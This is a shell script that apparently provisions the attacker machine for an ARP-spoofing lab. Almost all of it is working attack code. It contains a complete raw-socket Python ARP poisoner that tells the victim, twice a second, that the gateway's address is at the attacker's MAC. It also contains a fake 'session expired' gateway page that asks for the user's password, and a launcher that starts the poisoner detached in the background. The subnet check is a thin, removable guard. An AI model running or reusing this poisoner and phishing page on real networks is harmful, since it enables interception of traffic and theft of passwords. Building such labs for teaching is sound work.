set -eu
# The attacker. It (1) accepts packets for the gateway's address (on lo), (2) serves a fake
# gateway page, and (3) runs a poisoner that tells client, twice a second, that the gateway's
# address is at rogue's MAC. Only this lab's client and gateway addresses are ever used.
ip addr add "$GATEWAY_IP/32" dev lo
mkdir -p /var/www/fake
cat > /var/www/fake/index.html <<'PAGE'
<!doctype html>
<title>gateway</title>
<h1>Gateway status</h1>
<p>Your session has expired. Please enter your password again:</p>
<form method="post" action="/login"><input type="password" name="pw"><button>Log in</button></form>
PAGE
web_site fake /var/www/fake

mkdir -p /opt/rogue
cat > /opt/rogue/arp-poison.py <<'PY'
#!/usr/bin/python3
"""ARP poisoner for the arp-spoofing lab: tells VICTIM that SPOOFED is at this host's MAC.

usage: arp-poison.py IFACE VICTIM_IP VICTIM_MAC SPOOFED_IP SUBNET/PREFIX
Sends one forged ARP reply and one forged ARP request to the victim (unicast) every 0.5 s.
Refuses addresses outside SUBNET, so it can only ever touch the lab's own LAN.
"""
import socket
import struct
import sys
import time


def ip_int(a):
    return struct.unpack("!I", socket.inet_aton(a))[0]


def mac_bytes(m):
    return bytes.fromhex(m.replace(":", ""))


def arp_frame(op, src_mac, src_ip, dst_mac, dst_ip, eth_dst):
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + src_mac + src_ip + dst_mac + dst_ip
    frame = eth_dst + src_mac + b"\x08\x06" + body
    return frame + b"\x00" * (60 - len(frame))


def main():
    iface, victim_ip, victim_mac, spoofed_ip, subnet = sys.argv[1:6]
    net, prefix = subnet.split("/")
    mask = (0xFFFFFFFF << (32 - int(prefix))) & 0xFFFFFFFF
    for a in (victim_ip, spoofed_ip):
        if ip_int(a) & mask != ip_int(net) & mask:
            sys.exit("refusing: %s is outside the lab subnet %s" % (a, subnet))
    with open("/sys/class/net/%s/address" % iface) as f:
        my_mac = mac_bytes(f.read().strip())
    vmac, vip, sip = mac_bytes(victim_mac), socket.inet_aton(victim_ip), socket.inet_aton(spoofed_ip)
    # "spoofed is-at my_mac" (a reply), and "who-has victim? tell spoofed (at my_mac)" (a request:
    # Linux creates or overwrites the sender's entry when a request asks for one of its addresses)
    reply = arp_frame(2, my_mac, sip, vmac, vip, vmac)
    request = arp_frame(1, my_mac, sip, b"\x00" * 6, vip, vmac)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    print("poisoning %s (%s): %s is-at %s" % (victim_ip, victim_mac, spoofed_ip, my_mac.hex(":")), flush=True)
    while True:
        s.send(reply)
        s.send(request)
        time.sleep(0.5)


if __name__ == "__main__":
    main()
PY

# The victim's MAC: ask for it once (the poisoner sends unicast frames to it).
client_mac=''
for _ in 1 2 3 4 5; do
  ping -c 1 -W 1 "$CLIENT_IP" >/dev/null 2>&1 </dev/null || true
  client_mac=$(ip neigh show to "$CLIENT_IP" dev eth0 | awk '{ for (i = 1; i < NF; i++) if ($i == "lladdr") print $(i + 1) }')
  [ -n "$client_mac" ] && break
done
[ -n "$client_mac" ] || { echo "setup: cannot learn client's MAC" >&2; exit 1; }

cat > /opt/rogue/start-poisoner <<START
#!/bin/sh
# Starts the ARP poisoner in the background, unless it runs already.
pgrep -f /opt/rogue/arp-poison.py >/dev/null && { echo "the poisoner runs already"; exit 0; }
setsid nohup python3 /opt/rogue/arp-poison.py eth0 $CLIENT_IP $client_mac $GATEWAY_IP $LAN_SUBNET \
  >>/var/log/arp-poison.log 2>&1 </dev/null &
echo "poisoner started"
START
chmod 755 /opt/rogue/start-poisoner /opt/rogue/arp-poison.py
/opt/rogue/start-poisoner
